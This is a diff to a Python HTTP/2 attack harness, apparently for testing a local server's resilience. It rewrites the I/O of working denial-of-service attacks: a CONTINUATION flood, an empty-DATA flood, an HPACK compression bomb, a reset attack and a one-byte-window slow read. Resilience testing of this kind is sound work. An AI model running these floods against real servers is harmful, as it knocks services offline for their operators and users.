@@ -6,11 +6,12 @@ closed, or alive), `code` and `text` of the GOAWAY, `resets` (code to count), `s
 """
 import collections
 import json
+import select
 import socket
 import ssl
 import struct
 import sys
-import threading
+import time
 
 import hpack
 
@@ -29,12 +30,12 @@ class Attacker:
         raw = socket.create_connection(("127.0.0.1", port), 60)
         raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         self.host, self.sock = host, tls.wrap_socket(raw, server_hostname=host)
+        self.sock.setblocking(False)
         self.said = {"end": "alive", "code": None, "text": "", "sent": 0}
         self.resets, self.statuses = collections.Counter(), collections.Counter()
-        self.decoder, self.stream, self.is_over = hpack.Decoder(max_header_list_size=1 << 20), 1, threading.Event()
-        self.answer, self.on_data = threading.Event(), lambda stream, n: None
-        self.sock.sendall(h2.PREFACE + h2.settings(**settings))
-        threading.Thread(target=self.read, daemon=True).start()
+        self.decoder, self.stream, self.is_over = hpack.Decoder(max_header_list_size=1 << 20), 1, False
+        self.incoming, self.on_data = bytearray(), lambda stream, n: None
+        self.send(h2.PREFACE + h2.settings(**settings))
 
     def new_stream(self):
         stream, self.stream = self.stream, self.stream + 2
@@ -43,55 +44,66 @@ class Attacker:
     def request(self, stream, end=True, path="/slow?60", **more):
         return h2.headers(stream, h2.request_fields(self.host, path, **more), end)
 
-    # --- what comes ---
+    # --- bytes ---
 
-    def exactly(self, n):
-        data = bytearray()
-        while len(data) < n:
-            piece = self.sock.recv(n - len(data))
-            if not piece:
-                raise ConnectionError
-            data += piece
-        return bytes(data)
+    def send(self, data, until=lambda: True, seconds=60):
+        """Sends, and reads meanwhile, until all has gone and `until` is true, or the connection is over, or time is up; in
+        one thread, for TLS of Python may not be read and written at once."""
+        deadline = time.monotonic() + seconds
+        try:
+            while not self.is_over and (data or not until()) and (left := deadline - time.monotonic()) > 0:
+                has_read = self.read()
+                data = data[self.write(data) :]
+                if not has_read:
+                    select.select([self.sock], [self.sock] if data else [], [], min(left, 0.1))
+        except OSError as error:
+            self.is_over = True
+            if self.said["end"] == "alive":
+                self.said |= {"end": "closed", "text": repr(error)}
+
+    def write(self, data):
+        try:
+            return self.sock.send(data) if data else 0
+        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
+            return 0
 
     def read(self):
         try:
-            while True:
-                head = self.exactly(9)
-                kind, flags, stream = struct.unpack(">BBL", head[3:])
-                self.on_frame(kind, flags, stream, self.exactly(int.from_bytes(head[:3], "big")))
-        except OSError:
-            if self.said["end"] == "alive":
-                self.said["end"] = "closed"
-            self.is_over.set()
-            self.answer.set()
+            piece = self.sock.recv(65536)
+        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
+            return False
+        if not piece:
+            raise ConnectionError("closed")
+        self.incoming += piece
+        while len(self.incoming) >= 9 and len(self.incoming) >= (end := 9 + int.from_bytes(self.incoming[:3], "big")):
+            kind, flags, stream = struct.unpack(">BBL", self.incoming[3:9])
+            payload = bytes(self.incoming[9:end])
+            del self.incoming[:end]
+            self.on_frame(kind, flags, stream, payload)
+        return True
 
     def on_frame(self, kind, flags, stream, payload):
         if kind == h2.GOAWAY:
             self.said |= {"end": "goaway", "code": h2.error_name(struct.unpack(">L", payload[4:8])[0])}
             self.said["text"] = payload[8:].decode("latin-1")
-            self.is_over.set()
+            self.is_over = True
         elif kind == h2.RST_STREAM:
             self.resets[h2.error_name(struct.unpack(">L", payload)[0])] += 1
         elif kind == h2.HEADERS:
             self.statuses[dict(self.decoder.decode(payload)).get(":status")] += 1
-            self.answer.set()
         elif kind == h2.DATA:
             self.on_data(stream, len(payload))
 
     # --- what goes ---
 
     def flood(self, make, n=MANY):
-        """Sends make() again and again until the server has had enough; True if it has."""
-        try:
-            for _ in range(0, n, BATCH):
-                if self.is_over.is_set():
-                    return True
-                self.sock.sendall(b"".join(make() for _ in range(BATCH)))
-                self.said["sent"] += BATCH
-        except OSError:
-            pass  # the reader says how it ended
-        return self.is_over.wait(10)
+        """Sends make() again and again until the server has had enough."""
+        for _ in range(0, n, BATCH):
+            if self.is_over:
+                return
+            self.send(b"".join(make() for _ in range(BATCH)))
+            self.said["sent"] += BATCH
+        self.send(b"", until=lambda: False, seconds=10)
 
     def report(self):
         print(json.dumps({**self.said, "resets": self.resets, "statuses": self.statuses}), flush=True)
@@ -117,8 +129,8 @@ def made_you_reset(attacker):
 
 def continuation(attacker, piece=b"a"):
     block = attacker.request(attacker.new_stream(), end=False)
-    attacker.sock.sendall(block[:4] + b"\0" + block[5:])  # without END_HEADERS
-    attacker.sock.sendall(h2.frame(h2.CONTINUATION, 0, 1, b"\0\1x" + h2.integer(40000, 7)))
+    attacker.send(block[:4] + b"\0" + block[5:])  # without END_HEADERS
+    attacker.send(h2.frame(h2.CONTINUATION, 0, 1, b"\0\1x" + h2.integer(40000, 7)))
     attacker.flood(lambda: h2.frame(h2.CONTINUATION, 0, 1, piece))
 
 
@@ -136,7 +148,7 @@ def settings(attacker):
 
 def empty_data(attacker):
     stream = attacker.new_stream()
-    attacker.sock.sendall(attacker.request(stream, end=False, path="/upload", method="POST"))
+    attacker.send(attacker.request(stream, end=False, path="/upload", method="POST"))
     attacker.flood(lambda: h2.frame(h2.DATA, 0, stream), 10 * MANY)
 
 
@@ -151,26 +163,33 @@ def hpack_bomb(attacker):
     for _ in range(20):
         stream = attacker.new_stream()
         block = fields + insert + b"\xbe" * 12000
-        attacker.answer.clear()
-        attacker.sock.sendall(h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream, block))
         attacker.said["sent"] += 1
-        if not attacker.answer.wait(60) or attacker.is_over.is_set():
-            return
+        expected = attacker.said["sent"]
+        attacker.send(
+            h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream, block),
+            until=lambda: attacker.statuses.total() + attacker.resets.total() >= expected,
+        )
 
 
 def dribble(attacker):
     """A window of one byte, opened again for each byte that comes: a hundred long responses, as slowly as can be."""
 
+    opened = bytearray()
+
     def on_data(stream, n):
         if n > 0:
-            attacker.sock.sendall(h2.window_update(stream, n))
+            opened.extend(h2.window_update(stream, n))
 
     attacker.on_data = on_data
     for _ in range(100):
-        attacker.sock.sendall(attacker.request(attacker.new_stream(), path="/bytes/67108864"))
+        attacker.send(attacker.request(attacker.new_stream(), path="/bytes/67108864"))
         attacker.said["sent"] += 1
     print("dribbling", flush=True)
-    attacker.is_over.wait(float(sys.argv[4]))
+    deadline = time.monotonic() + float(sys.argv[4])
+    while time.monotonic() < deadline and not attacker.is_over:
+        data = bytes(opened)
+        opened.clear()
+        attacker.send(data, until=lambda: opened, seconds=1)
 
 
 SETTINGS = {"dribble": {"INITIAL_WINDOW": 1}}
